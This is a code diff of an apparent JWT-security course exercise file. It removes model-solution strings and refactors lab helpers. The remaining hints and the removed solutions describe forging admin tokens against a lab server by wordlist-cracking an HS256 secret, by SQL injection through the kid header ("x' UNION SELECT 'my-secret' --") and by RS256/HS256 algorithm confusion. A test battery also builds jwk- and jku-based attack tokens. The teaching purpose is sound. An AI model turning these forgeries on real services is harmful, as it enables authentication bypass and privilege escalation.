@@ -8,21 +8,17 @@ function, and watches which algorithms it lets PyJWT accept.
 
 from __future__ import annotations
 
-import contextlib
-import functools
-import inspect
 import json
 
 import jwt
 from cryptography.hazmat.primitives import serialization
-from cryptography.hazmat.primitives.asymmetric import rsa
-from jwt.algorithms import RSAAlgorithm
 
-from coursekit.attacks import b64url_json, hs256_by_hand, serve_jwks
-from coursekit.client import bearer, claims, http_session, log_in
-from coursekit.exercise import Exercise, Incorrect, require_function
-from coursekit.lab import COURSE_START, fresh_lab
-from coursekit.tokenview import decode_segment
+from coursekit.labtools.attacks import b64url_json, hs256_by_hand, serve_jwks
+from coursekit.labtools.client import bearer, claims, http_session, log_in
+from coursekit.kit.exercise import Exercise, Incorrect, require_function
+from coursekit.labtools.lab import COURSE_START, fresh_lab
+from coursekit.labtools.verifier_probes import algorithms_given_to_pyjwt, attacker_jwk, attacker_key, lab_private_key
+from coursekit.pictures.tokenview import decode_segment
 from labserver import LabServer
 
 __all__ = ["q1", "q2", "q3", "q4"]
@@ -65,15 +61,6 @@ class CrackAndForge(Exercise):
         "for the right word. Then sign the token's claims with roles ['admin'], under the token's own header.",
         "hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret) builds the token.",
     ]
-    _solution = """
-        def forge(token: str) -> str:
-            head, payload, signature = token.split(".")
-            signing_input = f"{head}.{payload}".encode()
-            secret = next(word.encode() for word in wordlist()
-                          if b64url(hmac.new(word.encode(), signing_input, hashlib.sha256).digest()) == signature)
-            admin_claims = {**json.loads(decode_segment(payload)), "roles": ["admin"]}
-            return hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret)
-    """
 
     def _check(self, forge):
         require_function(forge, "forge")
@@ -94,12 +81,6 @@ class InjectTheKid(Exercise):
         "adds a UNION SELECT of a secret you choose, and comments the rest out with --.",
         "kid = \"x' UNION SELECT 'my-secret' --\" makes the lookup return 'my-secret'. Sign with b'my-secret'.",
     ]
-    _solution = """
-        def forge(token: str) -> str:
-            admin_claims = {**claims(token), "roles": ["admin"]}
-            header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'my-secret' --"}
-            return hs256_by_hand(header, admin_claims, b"my-secret")
-    """
 
     def _check(self, forge):
         require_function(forge, "forge")
@@ -123,14 +104,6 @@ class ConfuseTheAlgorithm(Exercise):
         "Those PEM bytes are the HMAC secret. PyJWT refuses a PEM key for HS256 (rightly), so sign by hand: "
         "hs256_by_hand(header, admin_claims, pem), with the token's header but alg HS256.",
     ]
-    _solution = """
-        def forge(token: str, jwks: dict) -> str:
-            public_key = RSAAlgorithm.from_jwk(jwks["keys"][0])
-            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
-            admin_claims = {**claims(token), "roles": ["admin"]}
-            header = {**jwt.get_unverified_header(token), "alg": "HS256"}
-            return hs256_by_hand(header, admin_claims, pem)
-    """
 
     def _check(self, forge):
         require_function(forge, "forge")
@@ -157,38 +130,6 @@ class ConfuseTheAlgorithm(Exercise):
 
 # --- q4: a verifier that refuses the whole battery --------------------------------------------------
 
-@functools.lru_cache(maxsize=1)
-def _attacker_key() -> rsa.RSAPrivateKey:
-    return rsa.generate_private_key(65537, 2048)
-
-
-def _server_private_key(lab: LabServer, kid: str):
-    """The lab's private key, read from its key file: the check plays a careless issuer, not an attacker."""
-    with open(lab.keys_path) as f:
-        jwk = next(k for k in json.load(f)["keys"] if k["kid"] == kid)
-    return jwt.PyJWK({k: v for k, v in jwk.items() if not k.startswith("lab_")}, algorithm="RS256").key
-
-
-@contextlib.contextmanager
-def _algorithms_asked():
-    """Record the ``algorithms`` a verifier lets PyJWT accept, for every signature PyJWT checks meanwhile."""
-    original = jwt.api_jws.PyJWS._verify_signature
-    signature = inspect.signature(original)
-    asked: list[list[str]] = []
-
-    def spy(*args, **kwargs):
-        algorithms = signature.bind(*args, **kwargs).arguments.get("algorithms")
-        if algorithms is not None:
-            asked.append(list(algorithms))
-        return original(*args, **kwargs)
-
-    jwt.api_jws.PyJWS._verify_signature = spy
-    try:
-        yield asked
-    finally:
-        jwt.api_jws.PyJWS._verify_signature = original
-
-
 class VerifyAgainstTheBattery(Exercise):
     title = "A verifier that refuses the whole battery"
     _hints = [
@@ -199,18 +140,6 @@ class VerifyAgainstTheBattery(Exercise):
         "Time: PyJWT compares exp and iat with your computer's clock, years before the lab's 2030. Pass "
         "options={..., 'verify_exp': False, 'verify_iat': False} and compare claims['exp'] with lab.clock.now().",
     ]
-    _solution = """
-        def verify(token: str, lab) -> dict:
-            keys = jwt.PyJWKSet.from_dict(lab.http.get(lab.url + "/.well-known/jwks.json").json())
-            key = keys[jwt.get_unverified_header(token)["kid"]]       # only the server's own keys
-            verified = jwt.decode(token, key, algorithms=["RS256"], audience="lab-api",
-                                  issuer=lab.settings.issuer_id,
-                                  options={"require": ["exp", "iss", "aud"],
-                                           "verify_exp": False, "verify_iat": False})  # the lab's clock, below
-            if lab.clock.now() >= verified["exp"]:
-                raise jwt.ExpiredSignatureError("expired by the lab clock")
-            return verified
-    """
 
     def _check(self, verify):
         require_function(verify, "verify")
@@ -230,8 +159,8 @@ class VerifyAgainstTheBattery(Exercise):
                 raise Incorrect(f"verify should return the token's claims as a dict; for {name}'s token, "
                                 f"claims['username'] == '{name}', but it returned {verified!r}")
         alice = log_in(lab, "alice")["access_token"]
-        with serve_jwks({"keys": [self._attacker_jwk("from-jku")]}) as jku:
-            with _algorithms_asked() as asked:
+        with serve_jwks({"keys": [attacker_jwk("from-jku")]}) as jku:
+            with algorithms_given_to_pyjwt() as seen:
                 for label, token, why, moves_clock in self._battery(lab, alice, jku):
                     if moves_clock:
                         lab.clock.set(claims(alice)["exp"] + 60)
@@ -245,6 +174,7 @@ class VerifyAgainstTheBattery(Exercise):
                         lab.clock.set(COURSE_START)
                     if accepted:
                         raise Incorrect(f"your verifier accepted {label}: {why}")
+                    asked = [algs for _alg, algs in seen if algs]
                     if any(algs != ["RS256"] for algs in asked):
                         raise Incorrect(
                             f"your verifier refused {label}, but it let PyJWT accept algorithms {asked[-1]}, "
@@ -254,15 +184,11 @@ class VerifyAgainstTheBattery(Exercise):
                 "from the jwk and jku headers, an expired token and tokens for another audience and issuer, "
                 "all out. That is RFC 8725 §3.1, §3.8-3.10 in one function.")
 
-    @staticmethod
-    def _attacker_jwk(kid: str) -> dict:
-        return {**RSAAlgorithm.to_jwk(_attacker_key().public_key(), as_dict=True), "kid": kid, "alg": "RS256"}
-
     def _battery(self, lab: LabServer, alice: str, jku: str):
         """(what it is, the token, why accepting it is wrong, whether the lab clock moves past exp)."""
         header = jwt.get_unverified_header(alice)
-        own_key = _server_private_key(lab, header["kid"])
-        mine = _attacker_key()
+        own_key = lab_private_key(lab, header["kid"])
+        mine = attacker_key()
         payload = claims(alice)
         admin = {**payload, "roles": ["admin"]}
         head, _body, signature = alice.split(".")
@@ -283,7 +209,7 @@ class VerifyAgainstTheBattery(Exercise):
              "that is algorithm confusion: pin algorithms=['RS256'] (RFC 8725 §3.1)", False),
             ("a token signed with the key its own jwk header carries",
              jwt.encode(admin, mine, algorithm="RS256",
-                        headers={"kid": "from-jwk", "typ": "at+jwt", "jwk": self._attacker_jwk("from-jwk")}),
+                        headers={"kid": "from-jwk", "typ": "at+jwt", "jwk": attacker_jwk("from-jwk")}),
              "anyone can sign with a key they bring: take keys only from the lab's JWK Set (RFC 8725 §3.10)",
              False),
             ("a token whose jku header points to the attacker's JWK Set",
